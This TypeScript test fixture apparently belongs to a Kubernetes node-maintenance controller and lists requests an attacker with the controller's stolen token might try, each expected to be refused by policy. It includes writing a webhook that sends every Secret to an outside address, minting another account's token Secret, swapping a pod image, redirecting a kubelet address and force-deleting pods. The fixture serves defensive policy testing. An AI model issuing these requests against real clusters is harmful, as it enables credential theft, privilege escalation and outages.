import type { KubeRequest } from '../../../../src/kube/client.ts';
import { NODES, objectPath, PODS } from '../../../../src/kube/resource.ts';

/** What an attacker with a stolen token tries. */
export interface Attack {
  readonly what: string;
  readonly request: KubeRequest;
}

const merge = (what: string, path: string, body: object): Attack => ({
  what,
  request: { method: 'PATCH', path, body, patch: { kind: 'merge' } },
});
const call = (what: string, method: 'POST' | 'DELETE', path: string, body?: object): Attack => ({
  what,
  request: { method, path, ...(body === undefined ? {} : { body }) },
});

/** The node of all the pods. */
export const NODE = 'node-a';
const GATE = 'nodemaintenance.x-k8s.io/maintenance';
const HELD_FOR = 'nodemaintenance.x-k8s.io/held-for';
/** A running pod of a Deployment. */
export const POD = objectPath(PODS, { name: 'web', namespace: 'default' });
/** A pod that our gate and another one hold. */
export const HELD = objectPath(PODS, { name: 'held', namespace: 'default' });

/** An ordinary pod of a Deployment, larger than most. */
export function webPod(name: string, spec: object = {}): object {
  const env = Array.from({ length: 500 }, (_, index) => ({ name: `V${index}`, value: 'x'.repeat(1000) }));
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace: 'default', labels: { app: 'web' }, annotations: { owner: 'shop' } },
    spec: { nodeName: NODE, containers: [{ name: 'main', image: 'none.invalid/none', env }], ...spec },
  };
}

/** Those that every pod gets; none of them can be taken away. */
const TOLERATIONS = ['not-ready', 'unreachable'].map((key) => ({
  key: `node.kubernetes.io/${key}`,
  operator: 'Exists',
  effect: 'NoExecute',
  tolerationSeconds: 300,
}));
const SECRETS = '/api/v1/namespaces/nodemaint-system/secrets';
const SECRET = { apiVersion: 'v1', kind: 'Secret' };
const WEBHOOK = '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/nodemaint-webhook';
/** The node. */
export const NODE_PATH = objectPath(NODES, { name: NODE });

/** What an attacker with the token of the controller tries on objects that are not the product's; a policy refuses each. */
export const ATTACKS_ON_OTHERS: readonly Attack[] = [
  {
    what: 'another image in a running pod',
    request: {
      method: 'PATCH',
      path: POD,
      body: { spec: { containers: [{ name: 'main', image: 'evil.invalid/x' }] } },
      patch: { kind: 'strategic' },
    },
  },
  merge('a label that a Service or a NetworkPolicy selects', POD, { metadata: { labels: { app: 'db' } } }),
  merge('a new label that a Service selects', POD, { metadata: { labels: { tier: 'web' } } }),
  merge('a label is taken away', POD, { metadata: { labels: { app: null } } }),
  merge('a pod is made to look held', POD, { metadata: { labels: { [HELD_FOR]: NODE } } }),
  merge('another annotation of a pod', POD, { metadata: { annotations: { owner: 'me' } } }),
  merge('an annotation of a pod is taken away', POD, { metadata: { annotations: { owner: null } } }),
  merge('an owner that does not exist, so that the pod is collected', POD, {
    metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'x' }] },
  }),
  merge('a finalizer that keeps a pod for ever', POD, { metadata: { finalizers: ['evil.example.com/x'] } }),
  merge('a shorter life', POD, { spec: { activeDeadlineSeconds: 1 } }),
  merge('more tolerations', POD, { spec: { tolerations: [...TOLERATIONS, { operator: 'Exists' }] } }),
  merge("another one's scheduling gate", HELD, { spec: { schedulingGates: [{ name: GATE }] } }),
  merge('a held pod is sent to another node', HELD, { spec: { nodeSelector: { evil: 'true' } } }),
  call('a running pod of a Deployment is deleted, whichever has its name', 'DELETE', POD),
  call('it is deleted without time to end', 'DELETE', POD, {
    apiVersion: 'v1',
    kind: 'DeleteOptions',
    gracePeriodSeconds: 0,
  }),
  call(
    'a DaemonSet pod is deleted without time to end',
    'DELETE',
    objectPath(PODS, { name: 'agent', namespace: 'default' }),
    { apiVersion: 'v1', kind: 'DeleteOptions', gracePeriodSeconds: 0 },
  ),
  call('it is evicted without time to end', 'POST', `${POD}/eviction`, {
    apiVersion: 'policy/v1',
    kind: 'Eviction',
    metadata: { name: 'web', namespace: 'default' },
    deleteOptions: { gracePeriodSeconds: 0 },
  }),
  merge('a label of a node', NODE_PATH, { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } }),
  merge('another annotation of a node', NODE_PATH, {
    metadata: { annotations: { 'kubeadm.alpha.kubernetes.io/cri-socket': 'x' } },
  }),
  merge('a taint', NODE_PATH, { spec: { taints: [{ key: 'evil', effect: 'NoExecute' }] } }),
  merge('the provider id', NODE_PATH, { spec: { providerID: 'aws:///evil' } }),
  merge('a finalizer of a node', NODE_PATH, { metadata: { finalizers: ['evil.example.com/x'] } }),
  merge("where the API server finds a node's kubelet", `${NODE_PATH}/status`, {
    status: { addresses: [{ type: 'InternalIP', address: '203.0.113.9' }] },
  }),
  merge('the port of a kubelet', `${NODE_PATH}/status`, {
    status: { daemonEndpoints: { kubeletEndpoint: { Port: 4444 } } },
  }),
  merge('the room of a node', `${NODE_PATH}/status`, { status: { allocatable: { pods: '0' } } }),
  merge('a node is not ready', `${NODE_PATH}/status`, {
    status: { conditions: [{ type: 'Ready', status: 'False', reason: 'x', message: '' }] },
  }),
  merge('a label of a node by its status', `${NODE_PATH}/status`, { metadata: { labels: { evil: '' } } }),
  merge('an annotation of a node by its status', `${NODE_PATH}/status`, {
    metadata: { annotations: { 'nodemaintenance.x-k8s.io/cordoned': 'x' } },
  }),
  call('a Secret of another name', 'POST', SECRETS, {
    ...SECRET,
    metadata: { name: 'other' },
    type: 'kubernetes.io/tls',
    data: { 'tls.crt': '', 'tls.key': '' },
  }),
  call('a Secret that is filled with the token of another account', 'POST', SECRETS, {
    ...SECRET,
    metadata: {
      name: 'nodemaint-webhook',
      annotations: { 'kubernetes.io/service-account.name': 'nodemaint-agent-release' },
    },
    type: 'kubernetes.io/service-account-token',
  }),
  merge('a webhook that is shown every Secret', WEBHOOK, {
    webhooks: [
      {
        name: 'times.evictionrequests.nodemaintenance.x-k8s.io',
        clientConfig: { url: 'https://203.0.113.9/' },
        rules: [{ apiGroups: [''], apiVersions: ['*'], operations: ['*'], resources: ['secrets'] }],
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    ],
  }),
  merge('no webhook at all', WEBHOOK, { webhooks: null }),
  merge('an owner of the webhook', WEBHOOK, {
    metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Namespace', name: 'x', uid: 'x' }] },
  }),
];
